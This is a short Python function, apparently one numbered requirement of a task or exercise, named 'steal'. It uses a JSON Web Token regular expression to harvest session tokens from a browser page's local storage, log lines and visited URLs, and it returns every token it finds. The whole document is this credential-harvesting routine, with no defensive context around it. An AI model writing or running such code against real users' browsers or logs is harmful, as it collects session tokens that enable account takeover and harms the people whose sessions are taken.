# requirement: 3
import re


def steal(page, log, history):
    texts = [*page.local_storage.values(), *log]
    found = set(re.findall(r"eyJ[A-Za-z0-9_-]*\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+", "\n".join(texts)))
    for address in history:
        hit = re.search(r"eyJ[A-Za-z0-9_-]*\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+", address)
        found |= {hit[0]} if hit else set()
    return found
